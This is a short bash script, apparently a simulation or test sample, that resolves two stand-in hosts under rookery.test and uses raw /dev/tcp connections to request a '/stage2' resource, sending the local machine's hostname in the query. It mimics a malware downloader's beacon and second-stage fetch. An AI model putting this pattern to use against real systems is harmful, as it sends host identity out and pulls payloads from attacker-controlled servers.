#!/bin/bash
# Asks for two names and fetches a page from each, as a downloader would.
for name in updates.rookery.test cdn.rookery.test; do
  answer=$(getent ahostsv4 "$name")
  address=${answer%% *}
  echo "$name is $address"
  exec 3<>"/dev/tcp/$address/80"
  printf 'GET /stage2?host=%s HTTP/1.0\r\nHost: %s\r\n\r\n' "$(hostname)" "$name" >&3
  cat <&3
  exec 3>&-
done
